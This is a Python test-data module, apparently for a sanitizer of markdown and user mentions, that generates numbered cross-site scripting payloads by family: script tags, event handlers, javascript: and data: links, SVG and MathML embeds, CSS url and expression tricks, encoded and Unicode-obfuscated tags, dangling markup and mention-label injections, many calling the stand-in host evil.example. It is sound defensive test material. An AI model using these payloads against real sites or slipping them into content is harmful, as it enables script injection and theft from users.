"""Texts by which somebody would run a script in others' browsers, call home or lead them away, by families.

``{n}`` is the text's number: what runs says ``ran.push(n)``, and what calls home asks ``evil.example``.
"""

from base64 import b64encode
from collections.abc import Iterator

RUN, HOME = "ran.push({n})", "https://evil.example/{n}"
PAGE = f"<script>parent.{RUN}</script>"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={HOME}></script>",
    "<script src=//evil.example/{n}>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}\n</script\t>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script type="module">{RUN}</script>',
    f"<script>/*\n\n*/{RUN}</script>",
    f"<p><script>{RUN}</script></p>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={HOME} /></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<script>{RUN}",
)
HANDLERS = tuple(
    f"<{element} {event}={quote}{RUN}{quote}>"
    for element, event in (
        ("img src=x", "onerror"),
        ("img src=//evil.example/{n}", "onload"),
        ("img/src=x", "/onerror"),
        ("image src=x", "onerror"),
        ("svg", "onload"),
        ("svg/", "onload"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("video src=x", "onerror"),
        ("video><source", "onerror"),
        ("audio src=x", "onerror"),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"),
        ("a href=x tabindex=1 autofocus", "onfocus"),
        ("div contenteditable autofocus tabindex=1", "onfocus"),
        ("marquee", "onstart"),
        ("iframe", "onload"),
        ("iframe src=//evil.example/{n}", "onload"),
        ("object data=x", "onerror"),
        ("embed src=x", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("style", "onload"),
        ("p style='animation:x' ", "onanimationstart"),
        ("xss id=x tabindex=1", "onfocusin"),
        ("div", "onpointerover"),
        ("p", "onmouseover"),
        ("form", "onformdata"),
    )
    for quote in ('"', "")
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#9;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"&#106;avascript&colon;{RUN}",
    f"&#x6A;&#x61;vascript:{RUN}",
    f"%6Aavascript:{RUN}",
    f"javascript&#58;{RUN}",
    f"\u200bjavascript:{RUN}",
    f"\u202ejavascript:{RUN}",
    f"javascript://evil.example/%0A{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,{PAGE}",
    f"data:text/html;base64,{b64encode(b'<script>parent.ran.push(0)</script>').decode()}",
    f"data:image/svg+xml,<svg/onload={RUN}>",
    "blob:https://evil.example/{n}",
    "filesystem:https://evil.example/{n}",
    "view-source:https://evil.example/{n}",
    "file:///etc/passwd",
    "//evil.example/{n}",
    "/\\evil.example/{n}",
    "\\\\evil.example/{n}",
    "/\t/evil.example/{n}",
)
LINKS = tuple(
    form.replace("U", address)
    for address in ADDRESSES
    for form in ("[x](U)", "[x](<U>)", "![x](U)", "<U>", "[x]: <U>\n\n[x]", '[x](https://a.example "U")')
)
EMBEDDED = (
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f'<svg><animate attributeName=href values="javascript:{RUN}" /><a><text y=20>x</text></a></svg>',
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x" /></svg>',
    f"<svg><image href={HOME} onerror={RUN} />",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><mi//xlink:href='data:x,{PAGE}'>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<iframe srcdoc='{PAGE}'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe src={HOME}></iframe>",
    f"<object data={HOME}></object>",
    f"<object data='data:text/html,{PAGE}'></object>",
    f"<embed src={HOME}>",
    f"<applet code={HOME}></applet>",
    f"<frameset><frame src={HOME}></frameset>",
    f"<portal src={HOME}>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<form id=f action={HOME}></form><button form=f formaction='javascript:{RUN}'>x</button>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<meta http-equiv=refresh content='0;url={HOME}'>",
    f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
    f"<base href={HOME}/>",
    f"<link rel=stylesheet href={HOME}>",
    f"<link rel=prefetch href={HOME}><link rel=dns-prefetch href={HOME}>",
    f"<link rel=import href={HOME}>",
    f"<video poster={HOME}></video><audio src={HOME} autoplay></audio>",
    f"<picture><source srcset={HOME}><img src={HOME} srcset='{HOME} 2x'></picture>",
    f"<table background={HOME}><td background={HOME}>",
    f"<body background={HOME}>",
    f"<input type=image src={HOME}>",
    f"<a href=x ping={HOME}>x</a>",
    f"<bgsound src={HOME}>",
)
STYLES = (
    f"<style>@import '{HOME}';</style>",
    f"<style>*{{{{background:url({HOME})}}}}</style>",
    f"<p style='background:url({HOME})'>x</p>",
    f'<p style="width:expression({RUN})">x</p>',
    f'<p style="-moz-binding:url({HOME}#x)">x</p>',
    f'<p style="behavior:url({HOME})">x</p>',
    "<p style='position:fixed;inset:0;z-index:99999'>x</p>",
    f"<style>@font-face{{{{font-family:x;src:url({HOME})}}}}*{{{{font-family:x}}}}</style>",
)
ENTITIES = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"\\<img src=x onerror={RUN}\\>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2039script\u203a{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"&lt<img src=x onerror={RUN}>",
)
DANGLING = (
    f"<img src='{HOME}?",
    f'<img src="{HOME}?',
    f"<a href='{HOME}?",
    f"<form action={HOME}><textarea>",
    f"<button form=x formaction='{HOME}?",
    "<base target='",
    "</section></body></html>",
    "</p></div></section><h1>mine</h1>",
    f"<textarea><img src=x onerror={RUN}>",
    f"<title><img src=x onerror={RUN}>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<select><option><img src=x onerror={RUN}></select>",
    f"<noembed><img src=x onerror={RUN}></noembed>",
    f"<table><tr><td><img src=x onerror={RUN}><tr></table></td>",
    f"<b><i></b><img src=x onerror={RUN}></i>",
    f"<!-- --><img src=x onerror={RUN}> -->",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--[if true]><img src=x onerror={RUN}><![endif]-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<!DOCTYPE x [<!ENTITY x '<img src=x onerror={RUN}>'>]>&x;",
    f"<% <img src=x onerror={RUN}> %>",
    f"{{{{{{{{constructor.constructor('{RUN}')()}}}}}}}}",
)
MARKDOWN = (
    f"`<img src=x onerror={RUN}>`",
    f'``` "><img src=x onerror={RUN}>\ncode\n```',
    f"~~~<script>{RUN}</script>\n<script>{RUN}</script>\n~~~",
    f"    <script>{RUN}</script>",
    f"| a |\n| - |\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>",
    f"> - <img src=x onerror={RUN}>",
    f"**<img src=x onerror={RUN}>**",
    f"[<img src=x onerror={RUN}>](https://a.example)",
    f"![<img src=x onerror={RUN}>](https://a.example)",
    f'[x](https://a.example/"onmouseover="{RUN})',
    f"[x](https://a.example/'onmouseover='{RUN})",
    f"[x](https://a.example 'a\" onmouseover=\"{RUN}')",
    f'![x" onerror="{RUN}](https://a.example/x.png)',
    f'<https://a.example/"onmouseover={RUN}>',
    f'<a@b.example"onmouseover={RUN}>',
    f'<mailto:a@b.example?x="onmouseover={RUN}>',
    "![x](https://evil.example/{n}.png)",
    f"[![x](https://evil.example/{{n}}.png)](javascript:{RUN})",
    f'[x](javascript:{RUN} "y")',
    "[x\u202e](https://evil.example/{n} '\u2066gpj.exe')",
    f"\u202e<script>{RUN}</script>\u202c",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"<\u200dimg src=x onerror={RUN}>",
    f"\u2066\u2067\u2068<img src=x onerror={RUN}>\u2069",
    f"<im\u00adg src=x onerror={RUN}>",
    f"*\\<img src=x onerror={RUN}\\>*",
    f"1. <svg/onload={RUN}>\n2. [x](javascript:{RUN})",
)
LABELS = (
    f"@[<img src=x onerror={RUN}>](user:{{user}})",
    f'@[x](user:{{user}}"onmouseover="{RUN})',
    f"@[x](javascript:{RUN})",
    "@[](user:{user})",
    f"@[[x](javascript:{RUN})](user:{{user}})",
    f"@[x](user:00000000-0000-7000-8000-000000000000'><img src=x onerror={RUN}>)",
)
"""Mentions whose label, or whose id, is hostile."""
NAMES = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"](javascript:{RUN})",
    f"</a><svg/onload={RUN}>",
    f"`*_<b>_*` &lt;img src=x onerror={RUN}&gt;",
    "\u202e\u2066evil\u2069",
)
"""Of somebody who is mentioned, by choice and as people type it."""
ALONE, TOGETHER = (MARKDOWN,), (SCRIPTS, HANDLERS, LINKS, EMBEDDED, STYLES, ENTITIES, DANGLING)
_A_TIME = 6


def texts() -> list[str]:
    """All that anybody can write alone, each with its number."""
    every = (one for family in (*ALONE, *TOGETHER) for one in family)
    return [one.format(n=number) for number, one in enumerate(every, 1)]


def bodies() -> Iterator[str]:
    """The same, some in one text where none can swallow the next, as an open fence of code would."""
    every, alone = texts(), sum(map(len, ALONE))
    yield from every[:alone]
    for number in range(alone, len(every), _A_TIME):
        yield "\n\n---\n\n".join(every[number : number + _A_TIME])
